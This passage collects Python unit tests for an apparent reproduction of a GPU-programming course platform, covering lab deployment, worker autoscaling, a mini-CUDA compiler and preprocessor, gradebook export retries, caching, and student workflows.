from repro.broker.containers import CUDA_IMAGE
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.db import Database
from repro.labs import ALL_LABS, execute_lab_source, get_lab
from repro.labs.config import (
    deploy_lab,
    lab_config_json,
    lab_from_config,
    load_dataset_arrays,
    load_lab,
)
from repro.storage import ObjectStore

VECADD = get_lab("vector-add")


class TestLabConfigJson:
    def test_config_has_the_paper_fields(self):
        config = json.loads(lab_config_json(VECADD))
        # §IV-E: deadline, how to award points, the name of the lab
        assert config["name"] == "Vector Addition"
        assert "deadline" in config
        assert config["points"]["datasets"] == 80
        assert config["limits"]["run_seconds"] == 60.0

    @pytest.mark.parametrize("lab", ALL_LABS, ids=lambda lab: lab.slug)
    def test_roundtrip_every_lab(self, lab):
        rebuilt = lab_from_config(lab_config_json(lab), lab.description,
                                  lab.skeleton, lab.solution)
        assert rebuilt == lab

    def test_deploy_and_load_from_bucket(self):
        bucket = ObjectStore().create_bucket("webgpu-labs")
        keys = deploy_lab(bucket, VECADD)
        assert f"labs/{VECADD.slug}/config.json" in keys
        rebuilt = load_lab(bucket, VECADD.slug)
        assert rebuilt == VECADD

    def test_deployed_datasets_grade_identically(self):
        bucket = ObjectStore().create_bucket("webgpu-labs")
        deploy_lab(bucket, VECADD, base_seed=1234)
        arrays = load_dataset_arrays(bucket, VECADD.slug, 1)
        local = VECADD.dataset(1, base_seed=1234)
        assert np.array_equal(arrays["expected"], local.expected)
        assert np.array_equal(arrays["input0"], local.inputs["input0"])

    def test_rebuilt_lab_still_grades(self):
        bucket = ObjectStore().create_bucket("webgpu-labs")
        deploy_lab(bucket, VECADD)
        rebuilt = load_lab(bucket, VECADD.slug)
        result = execute_lab_source(rebuilt, rebuilt.solution,
                                    rebuilt.dataset(0))
        assert result.passed


class TestFleetManager:
    def make_manager(self, clock, broker, **kwargs):
        db = Database("metrics")
        cfg = ConfigServer()
        counter = [0]

        def spawn():
            counter[0] += 1
            worker = GpuWorker(WorkerConfig(), clock=clock,
                               name=f"auto{counter[0]}")
            return WorkerDriver(worker, broker, ContainerPool([CUDA_IMAGE]),
                                cfg, db, clock=clock)

        retired = []
        manager = FleetManager(broker, clock, spawn=spawn,
                               retire=retired.append, **kwargs)
        manager.adopt(spawn())
        return manager, retired

    def test_scales_up_on_queue_depth(self):
        clock = ManualClock()
        broker = MessageBroker()
        manager, _ = self.make_manager(clock, broker, scale_up_depth=3,
                                       cooldown_s=0.0)
        for _ in range(6):
            broker.publish(Job(lab=VECADD, source=VECADD.solution,
                               kind=JobKind.COMPILE_ONLY), clock.now())
        event = manager.evaluate()
        assert event is not None and event.action == "add"
        assert manager.size == 2

    def test_cooldown_limits_thrash(self):
        clock = ManualClock()
        broker = MessageBroker()
        manager, _ = self.make_manager(clock, broker, scale_up_depth=1,
                                       cooldown_s=300.0)
        for _ in range(10):
            broker.publish(Job(lab=VECADD, source=VECADD.solution,
                               kind=JobKind.COMPILE_ONLY), clock.now())
        assert manager.evaluate() is not None
        assert manager.evaluate() is None  # still cooling down
        clock.advance(301)
        assert manager.evaluate() is not None

    def test_scales_down_after_sustained_idleness(self):
        clock = ManualClock()
        broker = MessageBroker()
        manager, retired = self.make_manager(
            clock, broker, min_workers=1, idle_polls_before_retire=5,
            cooldown_s=0.0)
        manager.adopt(manager.spawn())
        assert manager.size == 2
        for _ in range(6):
            manager.pump()  # nothing queued: all polls idle
        clock.advance(10)
        event = manager.evaluate()
        assert event is not None and event.action == "remove"
        assert manager.size == 1
        assert len(retired) == 1

    def test_never_below_min_or_above_max(self):
        clock = ManualClock()
        broker = MessageBroker()
        manager, _ = self.make_manager(clock, broker, min_workers=1,
                                       max_workers=2, scale_up_depth=1,
                                       idle_polls_before_retire=1,
                                       cooldown_s=0.0)
        for _ in range(20):
            broker.publish(Job(lab=VECADD, source=VECADD.solution,
                               kind=JobKind.COMPILE_ONLY), clock.now())
        manager.evaluate()
        manager.evaluate()
        assert manager.size == 2  # capped at max
        # drain everything, then shrink to the floor
        while broker.depth():
            manager.pump()
        for _ in range(5):
            manager.pump()
            manager.evaluate()
        assert manager.size == 1  # never below min

    def test_end_to_end_burst_absorbed(self):
        clock = ManualClock()
        broker = MessageBroker()
        manager, _ = self.make_manager(clock, broker, scale_up_depth=2,
                                       cooldown_s=0.0, max_workers=4)
        for _ in range(8):
            broker.publish(Job(lab=VECADD, source=VECADD.solution,
                               kind=JobKind.COMPILE_ONLY), clock.now())
        done = 0
        for _ in range(30):
            manager.evaluate()
            done += manager.pump()
            if done == 8:
                break
        assert done == 8
        assert manager.size > 1  # the burst triggered growth
        assert any(e.action == "add" for e in manager.events)


class TestV2LabDeployment:
    def test_deploy_then_install_then_grade(self):
        from repro.cluster import ManualClock
        from repro.core import WebGPU2
        from repro.core.course import CourseOffering

        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=1)
        course = platform.create_course(
            CourseOffering(code="HPP", year=2016), [])
        assert course.labs == {}

        # instructor deploys the bundle to the S3 bucket, then installs
        keys = platform.deploy_lab(VECADD)
        assert any(k.endswith("config.json") for k in keys)
        installed = platform.install_lab("HPP-2016", "vector-add")
        assert installed.title == "Vector Addition"

        # a student can now take the lab end to end
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
        platform.save_code("HPP-2016", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2016", student, "vector-add")
        assert attempt.correct

    def test_install_unknown_lab_fails(self):
        from repro.cluster import ManualClock
        from repro.core import WebGPU2
        from repro.core.course import CourseOffering
        from repro.storage import NoSuchKeyError

        platform = WebGPU2(clock=ManualClock(), num_workers=1)
        platform.create_course(CourseOffering(code="HPP", year=2016), [])
        with pytest.raises(NoSuchKeyError):
            platform.install_lab("HPP-2016", "ghost-lab")
