"""C switch statement: fallthrough, default, break, device usage."""

import pytest

from repro.minicuda import CompileError, HostEnv, compile_source


def run_main(source):
    return compile_source(source).run_main(host_env=HostEnv()).exit_code


class TestSwitchSemantics:
    def test_simple_dispatch(self):
        assert run_main("""
int main() {
  int x = 2;
  switch (x) {
    case 1: return 10;
    case 2: return 20;
    case 3: return 30;
  }
  return 0;
}
""") == 20

    def test_fallthrough(self):
        assert run_main("""
int main() {
  int acc = 0;
  switch (1) {
    case 1: acc += 1;
    case 2: acc += 2;
    case 3: acc += 4; break;
    case 4: acc += 100;
  }
  return acc;
}
""") == 7

    def test_default_taken_when_no_match(self):
        assert run_main("""
int main() {
  switch (42) {
    case 1: return 1;
    default: return 9;
  }
  return 0;
}
""") == 9

    def test_no_match_no_default_skips(self):
        assert run_main("""
int main() {
  switch (42) {
    case 1: return 1;
  }
  return 5;
}
""") == 5

    def test_shared_case_labels(self):
        assert run_main("""
int main() {
  switch (0) {
    case 0:
    case 1:
      return 77;
  }
  return 0;
}
""") == 77

    def test_constant_expression_labels(self):
        assert run_main("""
int main() {
  switch (8) {
    case 2 * 4: return 1;
  }
  return 0;
}
""") == 1

    def test_break_in_loop_inside_switch_only_exits_loop(self):
        assert run_main("""
int main() {
  int n = 0;
  switch (1) {
    case 1:
      for (int i = 0; i < 10; i++) {
        if (i == 3) break;
        n++;
      }
      n += 100;
      break;
  }
  return n;
}
""") == 103

    def test_switch_in_device_code(self):
        source = """
__global__ void k(int *out, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) {
    switch (i % 3) {
      case 0: out[i] = 1; break;
      case 1: out[i] = 2; break;
      default: out[i] = 3;
    }
  }
}
int main() { return 0; }
"""
        from repro.gpusim import Device, GpuRuntime
        program = compile_source(source)
        rt = GpuRuntime(Device())
        out = rt.malloc(9, "int")
        program.launch(rt, "k", 1, 9, out.ptr(), 9)
        assert list(rt.memcpy_dtoh(out)) == [1, 2, 3] * 3


class TestSwitchDiagnostics:
    def test_non_constant_label_rejected(self):
        with pytest.raises(CompileError, match="integer constant"):
            compile_source("""
int main() {
  int y = 1;
  switch (1) { case y: return 1; }
  return 0;
}
""")

    def test_duplicate_labels_rejected(self):
        with pytest.raises(CompileError, match="duplicate case"):
            compile_source("""
int main() {
  switch (1) { case 1: return 1; case 1: return 2; }
  return 0;
}
""")

    def test_duplicate_default_rejected(self):
        with pytest.raises(CompileError, match="duplicate default"):
            compile_source("""
int main() {
  switch (1) { default: return 1; default: return 2; }
  return 0;
}
""")

    def test_statement_before_first_case_rejected(self):
        with pytest.raises(CompileError):
            compile_source("""
int main() {
  switch (1) { return 0; case 1: return 1; }
}
""")

    def test_undeclared_identifier_in_arm_caught(self):
        with pytest.raises(CompileError, match="undeclared"):
            compile_source("""
int main() {
  switch (1) { case 1: ghost = 2; }
  return 0;
}
""")
