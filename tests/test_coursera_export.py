"""External gradebook export: failures, retries, idempotency."""

import pytest

from repro.cluster import ManualClock
from repro.core import WebGPU
from repro.core.coursera import CourseraGradebook, ExportRejected, ReliableExporter
from repro.core.course import CourseOffering
from repro.core.gradebook import GradeEntry
from repro.labs import get_lab


def entry(user_id=1, lab="vector-add", points=90.0):
    return GradeEntry(user_id=user_id, lab=lab, program_points=points,
                      question_points=0.0, total_points=points,
                      graded_at=0.0)


class TestCourseraGradebook:
    def test_push_and_read_back(self):
        service = CourseraGradebook()
        service.push(entry(points=85.0))
        assert service.grade_of(1, "vector-add") == 85.0
        assert service.grade_of(2, "vector-add") is None

    def test_latest_grade_wins(self):
        service = CourseraGradebook()
        service.push(entry(points=50.0))
        service.push(entry(points=95.0))
        assert service.grade_of(1, "vector-add") == 95.0

    def test_transient_failures(self):
        service = CourseraGradebook(fail_every=2)
        service.push(entry())
        with pytest.raises(ExportRejected):
            service.push(entry())
        assert service.failures == 1


class TestReliableExporter:
    def test_queues_failures_and_flushes(self):
        service = CourseraGradebook(fail_every=2)
        exporter = ReliableExporter(service)
        exporter(entry(user_id=1))   # ok (request 1)
        exporter(entry(user_id=2))   # fails (request 2) -> queued
        assert exporter.pending == 1
        delivered = exporter.flush()
        assert delivered == 1
        assert exporter.pending == 0
        assert service.grade_of(2, "vector-add") == 90.0

    def test_only_newest_entry_per_key_queued(self):
        service = CourseraGradebook(fail_every=1)  # everything fails
        exporter = ReliableExporter(service)
        exporter(entry(points=40.0))
        exporter(entry(points=80.0))
        assert exporter.pending == 1  # superseded entry dropped
        service.fail_every = 0
        exporter.flush()
        assert service.grade_of(1, "vector-add") == 80.0

    def test_flush_gives_up_after_max_attempts(self):
        service = CourseraGradebook(fail_every=1)
        exporter = ReliableExporter(service)
        exporter(entry())
        assert exporter.flush(max_attempts=2) == 0
        assert exporter.pending == 1

    def test_wired_into_the_platform(self):
        service = CourseraGradebook(fail_every=2)
        exporter = ReliableExporter(service)
        clock = ManualClock()
        platform = WebGPU(clock=clock, grade_exporter=exporter,
                          rate_per_minute=600.0)
        course = platform.create_course(
            CourseOffering(code="HPP", year=2015), ["vector-add"])
        lab = get_lab("vector-add")
        for i in range(3):
            student = platform.users.register(f"u{i}@x.com", f"U{i}", "pw")
            course.enroll(student.user_id)
            platform.save_code("HPP-2015", student, "vector-add",
                               lab.solution)
            clock.advance(30)
            platform.submit_for_grading("HPP-2015", student, "vector-add")
        # some exports failed transiently; flush recovers them all
        exporter.flush()
        for i, user in enumerate(platform.db.find("users")):
            # 90.0: the lab question was never answered (10 points)
            assert service.grade_of(user["id"], "vector-add") == 90.0
