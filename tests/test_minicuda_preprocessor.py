"""Preprocessor: comments, macros, includes, conditionals."""

import pytest

from repro.minicuda import CompileError, preprocess


class TestComments:
    def test_line_comments_blanked(self):
        assert preprocess("int x; // trailing").strip() == "int x;"

    def test_block_comments_preserve_newlines(self):
        out = preprocess("a /* one\ntwo */ b")
        assert out.count("\n") == 1
        assert "one" not in out

    def test_comment_markers_in_strings_kept(self):
        out = preprocess('char *s = "// not a comment";')
        assert "// not a comment" in out

    def test_unterminated_block_comment(self):
        with pytest.raises(CompileError, match="unterminated"):
            preprocess("int x; /* oops")


class TestObjectMacros:
    def test_simple_substitution(self):
        out = preprocess("#define TILE 16\nint a[TILE];")
        assert "int a[16];" in out

    def test_macro_not_substituted_inside_identifiers(self):
        out = preprocess("#define T 9\nint TIGER = 1; int T2 = T;")
        assert "TIGER" in out and "int T2 = 9;" in out

    def test_macro_not_substituted_in_strings(self):
        out = preprocess('#define X 1\nchar *s = "X marks";')
        assert '"X marks"' in out

    def test_nested_expansion(self):
        out = preprocess("#define A B\n#define B 7\nint x = A;")
        assert "int x = 7;" in out

    def test_self_reference_does_not_loop(self):
        out = preprocess("#define X X\nint X;")
        assert "int X;" in out

    def test_undef(self):
        out = preprocess("#define X 1\n#undef X\nint X;")
        assert "int X;" in out

    def test_predefined(self):
        out = preprocess("int n = N;", predefined={"N": "42"})
        assert "int n = 42;" in out


class TestFunctionMacros:
    def test_substitution_with_args(self):
        out = preprocess("#define SQ(x) ((x) * (x))\nint y = SQ(a + 1);")
        assert "((a + 1) * (a + 1))" in out

    def test_two_parameters(self):
        out = preprocess(
            "#define MIN(a, b) ((a) < (b) ? (a) : (b))\nf = MIN(p, q);")
        assert "((p) < (q) ? (p) : (q))" in out

    def test_nested_parens_in_argument(self):
        out = preprocess("#define ID(x) x\ny = ID(f(1, 2));")
        assert "y = f(1, 2);" in out

    def test_wrong_arity(self):
        with pytest.raises(CompileError, match="expects 2"):
            preprocess("#define MIN(a, b) a\nx = MIN(1);")

    def test_name_without_parens_left_alone(self):
        out = preprocess("#define F(x) x\nint F;")
        assert "int F;" in out


class TestIncludesAndConditionals:
    def test_unknown_system_headers_dropped(self):
        out = preprocess("#include <wb.h>\nint x;")
        assert "int x;" in out

    def test_header_map_expanded(self):
        out = preprocess('#include "mine.h"\nint x = Y;',
                         headers={"mine.h": "#define Y 5"})
        assert "int x = 5;" in out

    def test_include_once(self):
        headers = {"h.h": "int only_once;"}
        out = preprocess('#include "h.h"\n#include "h.h"', headers=headers)
        assert out.count("only_once") == 1

    def test_ifdef_taken(self):
        out = preprocess("#define DEBUG\n#ifdef DEBUG\nint d;\n#endif")
        assert "int d;" in out

    def test_ifdef_skipped(self):
        out = preprocess("#ifdef NOPE\nint d;\n#endif\nint k;")
        assert "int d;" not in out and "int k;" in out

    def test_ifndef_and_else(self):
        out = preprocess("#ifndef NOPE\nint a;\n#else\nint b;\n#endif")
        assert "int a;" in out and "int b;" not in out

    def test_unbalanced_endif(self):
        with pytest.raises(CompileError):
            preprocess("#endif")

    def test_unterminated_ifdef(self):
        with pytest.raises(CompileError, match="unterminated"):
            preprocess("#ifdef X\nint a;")

    def test_pragma_preserved(self):
        out = preprocess("#pragma acc kernels\nint x;")
        assert "#pragma acc kernels" in out

    def test_unknown_directive_rejected(self):
        with pytest.raises(CompileError, match="unsupported"):
            preprocess("#error nope")


class TestLiteralBoundaries:
    """Regression: macro expansion must not recurse into literals."""

    def test_string_literals_never_expanded(self):
        out = preprocess('#define X 5\nchar *s = "X marks";')
        assert '"X marks"' in out

    def test_char_literals_never_expanded(self):
        out = preprocess("#define X 5\nchar c = 'X'; int y = X;")
        assert "'X'" in out
        assert "int y = 5" in out

    def test_escaped_quote_inside_char_literal(self):
        out = preprocess("#define Q 1\nchar c = '\\''; int y = Q;")
        assert "'\\''" in out
        assert "int y = 1" in out


class TestMacroArgumentValidation:
    """Regression: a trailing empty argument is an error, not an
    empty-string substitution."""

    def test_trailing_empty_argument_rejected(self):
        with pytest.raises(CompileError, match="empty macro argument"):
            preprocess("#define F(a, b) a + b\nint x = F(1,);")

    def test_leading_empty_argument_rejected(self):
        with pytest.raises(CompileError, match="empty macro argument"):
            preprocess("#define F(a, b) a + b\nint x = F(, 2);")

    def test_zero_argument_call_still_fine(self):
        out = preprocess("#define G() 7\nint x = G();")
        assert "int x = 7;" in out

    def test_nested_parens_still_one_argument(self):
        out = preprocess("#define ID(v) v\nint x = ID(f(1, 2));")
        assert "int x = f(1, 2);" in out


class TestDuplicateElse:
    """Regression: a second #else used to silently re-toggle."""

    def test_second_else_rejected(self):
        with pytest.raises(CompileError, match="duplicate #else"):
            preprocess("#ifdef A\n#else\n#else\n#endif\n")

    def test_else_in_nested_ifdef_tracked_per_level(self):
        out = preprocess("#define A 1\n#ifdef A\n#ifdef B\n#else\nint x;\n"
                         "#endif\n#else\nint y;\n#endif\n")
        assert "int x;" in out
        assert "int y;" not in out
