"""Unit tests for the repro.cache subsystem (CAS, policies, memo)."""

import pytest

from repro.cache import (
    CacheStats,
    CompositePolicy,
    ContentAddressedStore,
    IntegrityError,
    LRUPolicy,
    MemoTable,
    MissingBlobError,
    SizeCappedPolicy,
    TTLPolicy,
    hash_bytes,
)
from repro.cache.cas import blob_key
from repro.storage import Bucket


# -- content-addressed store ------------------------------------------------

def test_cas_roundtrip_and_addressing():
    cas = ContentAddressedStore()
    address = cas.put(b"hello world")
    assert address == hash_bytes(b"hello world")
    assert cas.get(address) == b"hello world"
    assert cas.contains(address)
    assert cas.size_of(address) == 11
    assert cas.total_bytes == 11


def test_cas_identical_blobs_stored_once_with_refcounts():
    cas = ContentAddressedStore()
    a1 = cas.put(b"payload")
    a2 = cas.put(b"payload")
    assert a1 == a2
    assert len(cas) == 1
    assert cas.refcount(a1) == 2
    # first release keeps the blob, second deletes it
    assert cas.release(a1) is False
    assert cas.get(a1) == b"payload"
    assert cas.release(a1) is True
    assert not cas.contains(a1)
    with pytest.raises(MissingBlobError):
        cas.get(a1)


def test_cas_refcount_addref_and_missing():
    cas = ContentAddressedStore()
    address = cas.put(b"x")
    cas.addref(address)
    assert cas.refcount(address) == 2
    with pytest.raises(MissingBlobError):
        cas.addref("0" * 64)
    with pytest.raises(MissingBlobError):
        cas.release("0" * 64)


def test_cas_integrity_verification_on_read():
    bucket = Bucket("cas-test")
    cas = ContentAddressedStore(bucket=bucket)
    address = cas.put(b"trusted bytes")
    # simulate bit-rot / tampering underneath the CAS
    bucket.put(blob_key(address), b"corrupted!")
    with pytest.raises(IntegrityError):
        cas.get(address)
    assert cas.stats.integrity_failures == 1
    # verification can be disabled (trusted store)
    lax = ContentAddressedStore(bucket=bucket, verify_on_read=False)
    lax._refcounts[address] = 1  # adopt the existing blob
    assert lax.get(address) == b"corrupted!"


def test_cas_uses_object_store_sha256_etag():
    bucket = Bucket("etags")
    meta = bucket.put("k", b"data")
    assert meta.sha256 == hash_bytes(b"data")
    assert meta.etag != meta.sha256  # md5 kept for S3 compatibility


# -- eviction policies ------------------------------------------------------

def test_lru_policy_evicts_least_recently_used():
    p = LRUPolicy(max_entries=2)
    p.record_store("a", 1, now=1.0)
    p.record_store("b", 1, now=2.0)
    p.record_access("a", now=3.0)  # refresh a; b is now the oldest
    p.record_store("c", 1, now=4.0)
    assert p.select_victims(now=4.0) == ["b"]
    assert p.stats.evicted_capacity == 1


def test_size_capped_policy_evicts_until_under_budget():
    p = SizeCappedPolicy(max_bytes=100)
    p.record_store("a", 60, now=1.0)
    p.record_store("b", 60, now=2.0)
    assert p.select_victims(now=2.0) == ["a"]
    assert p.total_bytes == 60
    p.record_store("c", 200, now=3.0)  # oversize entry flushes everything
    assert set(p.select_victims(now=3.0)) == {"b", "c"}


def test_ttl_policy_expires_idle_entries():
    p = TTLPolicy(ttl_s=10.0)
    p.record_store("a", 1, now=0.0)
    p.record_store("b", 1, now=5.0)
    p.record_access("a", now=8.0)  # touched -> young again
    assert p.select_victims(now=16.0) == ["b"]
    assert p.select_victims(now=100.0) == ["a"]
    assert p.stats.evicted_expired == 2


def test_composite_policy_unions_victims_and_syncs_members():
    lru = LRUPolicy(max_entries=10)
    ttl = TTLPolicy(ttl_s=5.0)
    p = CompositePolicy((lru, ttl))
    p.record_store("a", 1, now=0.0)
    p.record_store("b", 1, now=4.0)
    victims = p.select_victims(now=8.0)
    assert victims == ["a"]
    # the TTL victim must also be forgotten by the LRU member
    assert p.select_victims(now=8.0) == []
    p.record_store("c", 1, now=9.0)
    assert sorted(k for k in ("b", "c") if k) == ["b", "c"]


# -- single-flight memo table ----------------------------------------------

def test_memo_get_or_compute_memoizes():
    memo = MemoTable()
    calls = []
    value, hit = memo.get_or_compute("k", lambda: calls.append(1) or 42)
    assert (value, hit) == (42, False)
    value, hit = memo.get_or_compute("k", lambda: calls.append(1) or 43)
    assert (value, hit) == (42, True)
    assert len(calls) == 1
    assert memo.stats.hits == 1 and memo.stats.misses == 1


def test_memo_single_flight_dedups_concurrent_identical_requests():
    """Simulated concurrent polls: N requesters, one computation."""
    memo = MemoTable()
    role1, flight1 = memo.begin("key")
    assert role1 == "owner"
    # two more 'workers' poll the same key before the owner delivers
    role2, flight2 = memo.begin("key")
    role3, flight3 = memo.begin("key")
    assert role2 == role3 == "joined"
    assert flight2 is flight1 and flight3 is flight1
    assert memo.stats.dedup_hits == 2

    received = []
    flight2.on_delivery(received.append)
    memo.deliver("key", "result")
    assert flight1.result() == "result"
    assert flight3.result() == "result"
    assert received == ["result"]
    assert memo.compute_count == 1  # N requests, one compute

    role4, flight4 = memo.begin("key")
    assert role4 == "hit" and flight4.result() == "result"


def test_memo_failure_propagates_and_is_not_memoized_by_default():
    memo = MemoTable()
    with pytest.raises(ValueError):
        memo.get_or_compute("k", lambda: (_ for _ in ()).throw(ValueError("boom")))
    # not memoized: the next request recomputes
    value, hit = memo.get_or_compute("k", lambda: "recovered")
    assert (value, hit) == ("recovered", False)


def test_memo_error_memoization_opt_in():
    memo = MemoTable(memoize_errors=True)
    with pytest.raises(ValueError):
        memo.get_or_compute("k", lambda: (_ for _ in ()).throw(ValueError("boom")))
    with pytest.raises(ValueError):
        memo.get_or_compute("k", lambda: "should not run")
    assert memo.compute_count == 1


def test_memo_abandon_reopens_the_flight():
    memo = MemoTable()
    role, _ = memo.begin("k")
    assert role == "owner"
    memo.abandon("k")
    role, _ = memo.begin("k")
    assert role == "owner"  # fresh owner, not a join against a dead flight
    assert memo.inflight_count == 1


def test_memo_eviction_via_policy_and_on_evict_callback():
    evicted = []
    memo = MemoTable(policy=LRUPolicy(max_entries=2),
                     on_evict=lambda key, value: evicted.append((key, value)))
    for i in range(4):
        memo.get_or_compute(f"k{i}", lambda i=i: i)
    assert len(memo) == 2
    assert evicted == [("k0", 0), ("k1", 1)]
    assert memo.stats.evictions == 2
    # evicted keys recompute
    value, hit = memo.get_or_compute("k0", lambda: "again")
    assert (value, hit) == ("again", False)


def test_memo_stats_snapshot_shape():
    stats = CacheStats()
    stats.record_hit(seconds_saved=1.5)
    stats.record_miss()
    stats.record_store(100)
    snap = stats.snapshot()
    assert snap["hits"] == 1 and snap["misses"] == 1
    assert snap["hit_rate"] == 0.5
    assert snap["bytes_live"] == 100
    assert snap["seconds_saved"] == 1.5
    merged = stats.merge(stats)
    assert merged.hits == 2 and merged.bytes_stored == 200
