"""The platform facades: the six student actions end-to-end, v1 and v2."""

import pytest

from repro.cluster import FaultInjector, ManualClock, WorkerConfig
from repro.core import PlatformError, RateLimited, WebGPU, WebGPU2
from repro.core.course import CourseOffering
from repro.labs import get_lab

VECADD = get_lab("vector-add")


def make_platform(cls=WebGPU, **kwargs):
    clock = ManualClock()
    platform = cls(clock=clock, num_workers=2, **kwargs)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015,
                       deadlines={"vector-add": 10_000.0}),
        ["vector-add", "tiled-matmul"])
    student = platform.users.register("stu@x.com", "Stu", "pw")
    course.enroll(student.user_id)
    return platform, clock, course, student


@pytest.mark.parametrize("cls", [WebGPU, WebGPU2],
                         ids=["v1-push", "v2-broker"])
class TestStudentActions:
    def test_full_workflow(self, cls):
        platform, clock, course, student = make_platform(cls)
        # 1. edit
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.skeleton)
        # 2. compile
        clock.advance(30)
        attempt = platform.compile_code("HPP-2015", student, "vector-add")
        assert attempt.compile_ok
        # fix the code, 3. run against dataset 2
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        attempt = platform.run_attempt("HPP-2015", student, "vector-add",
                                       dataset_index=2)
        assert attempt.correct
        # 4. answer the question
        platform.answer_question("HPP-2015", student, "vector-add", 0,
                                 "grid can overshoot len")
        # 5. submit for grading
        clock.advance(30)
        attempt, grade = platform.submit_for_grading("HPP-2015", student,
                                                     "vector-add")
        assert grade.total_points == 100.0
        # 6. history views
        assert len(platform.code_history("HPP-2015", student,
                                         "vector-add")) == 2
        assert len(platform.attempt_history("HPP-2015", student,
                                            "vector-add")) == 3

    def test_not_enrolled_rejected(self, cls):
        platform, clock, course, student = make_platform(cls)
        outsider = platform.users.register("out@x.com", "Out", "pw")
        with pytest.raises(PlatformError, match="not enrolled"):
            platform.save_code("HPP-2015", outsider, "vector-add", "x")

    def test_no_code_saved_yet(self, cls):
        platform, clock, course, student = make_platform(cls)
        with pytest.raises(PlatformError, match="no code saved"):
            platform.run_attempt("HPP-2015", student, "vector-add")

    def test_rate_limit_fires(self, cls):
        platform, clock, course, student = make_platform(cls)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        with pytest.raises(RateLimited):
            for _ in range(10):
                platform.compile_code("HPP-2015", student, "vector-add")

    def test_unknown_course_and_question(self, cls):
        platform, clock, course, student = make_platform(cls)
        with pytest.raises(PlatformError):
            platform.course("CS-1999")
        with pytest.raises(PlatformError, match="question"):
            platform.answer_question("HPP-2015", student, "vector-add", 7,
                                     "answer")

    def test_grade_exporter_hook(self, cls):
        exported = []
        platform, clock, course, student = make_platform(
            cls, grade_exporter=exported.append)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.submit_for_grading("HPP-2015", student, "vector-add")
        assert len(exported) == 1
        assert exported[0].lab == "vector-add"


class TestV1Infrastructure:
    def test_worker_eviction_via_tick(self):
        platform, clock, _, _ = make_platform(WebGPU)
        platform.tick_health()
        victim = platform.worker_pool.workers[0]
        victim.drop_health_checks = True
        clock.advance(120)
        evicted = platform.tick_health()
        assert victim.name in evicted
        assert platform.worker_pool.size == 1

    def test_scale_up_scale_down(self):
        platform, _, _, _ = make_platform(WebGPU)
        w = platform.add_worker()
        assert platform.worker_pool.size == 3
        assert platform.remove_worker(w.name)
        assert platform.worker_pool.size == 2

    def test_connection_pool_sees_traffic(self):
        platform, clock, _, student = make_platform(WebGPU)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.run_attempt("HPP-2015", student, "vector-add")
        assert platform.db_pool.total_acquired >= 1
        assert platform.db_pool.in_use == 0


class TestV2Infrastructure:
    def test_tagged_lab_needs_capable_worker(self):
        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=1)  # cuda-only fleet
        course = platform.create_course(
            CourseOffering(code="PUMPS", year=2015), ["mpi-stencil"])
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
        lab = get_lab("mpi-stencil")
        platform.save_code("PUMPS-2015", student, "mpi-stencil",
                           lab.solution)
        clock.advance(30)
        attempt = platform.run_attempt("PUMPS-2015", student, "mpi-stencil")
        # no MPI-capable worker: the job cannot be served
        assert attempt.status == "failed"
        # add an MPI-capable multi-GPU worker and retry
        platform.add_worker(WorkerConfig(tags=frozenset({"cuda", "mpi"}),
                                         num_gpus=4))
        clock.advance(30)
        attempt = platform.run_attempt("PUMPS-2015", student, "mpi-stencil")
        assert attempt.correct

    def test_metrics_replicated_across_zones(self):
        platform, clock, _, student = make_platform(WebGPU2)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.run_attempt("HPP-2015", student, "vector-add")
        synced = platform.metrics.sync_all()
        assert set(synced) == set(platform.zones)
        for zone in platform.zones:
            rows = platform.metrics.read(zone, "worker_metrics", event="job")
            assert rows

    def test_dashboard_reflects_jobs(self):
        platform, clock, _, student = make_platform(WebGPU2)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        clock.advance(30)
        platform.run_attempt("HPP-2015", student, "vector-add")
        snap = platform.dashboard.snapshot()
        assert sum(w["jobs"] for w in snap["workers"].values()) == 1

    def test_dataset_bucket_roundtrip(self):
        import numpy as np
        platform, _, _, _ = make_platform(WebGPU2)
        data = VECADD.dataset(0)
        platform.upload_dataset("vector-add", 0, data.inputs, data.expected)
        back = platform.fetch_dataset_arrays("vector-add", 0)
        assert np.allclose(back["expected"], data.expected)
        assert set(back) == {"input0", "input1", "expected"}


@pytest.mark.parametrize("cls", [WebGPU, WebGPU2],
                         ids=["v1-push", "v2-broker"])
class TestDatasetIndexValidation:
    def test_boundary_indexes_accepted(self, cls):
        platform, clock, _, student = make_platform(cls)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        last = len(VECADD.dataset_sizes) - 1
        for index in (0, last):
            clock.advance(30)
            attempt = platform.run_attempt("HPP-2015", student, "vector-add",
                                           dataset_index=index)
            assert attempt.correct

    @pytest.mark.parametrize("bad", [-1, "past_end"])
    def test_out_of_range_index_rejected(self, cls, bad):
        platform, clock, _, student = make_platform(cls)
        platform.save_code("HPP-2015", student, "vector-add",
                           VECADD.solution)
        if bad == "past_end":
            bad = len(VECADD.dataset_sizes)
        clock.advance(30)
        with pytest.raises(PlatformError, match="out of range"):
            platform.run_attempt("HPP-2015", student, "vector-add",
                                 dataset_index=bad)
        # nothing was recorded or enqueued for the rejected request
        assert platform.attempt_history("HPP-2015", student,
                                        "vector-add") == []


class TestDeliveryResilience:
    """v2 at-least-once delivery, end to end through the facade."""

    def test_unmatched_job_is_cancelled_not_orphaned(self):
        clock = ManualClock()
        platform = WebGPU2(clock=clock, num_workers=1)  # cuda-only fleet
        course = platform.create_course(
            CourseOffering(code="PUMPS", year=2015), ["mpi-stencil"])
        student = platform.users.register("s@x.com", "S", "pw")
        course.enroll(student.user_id)
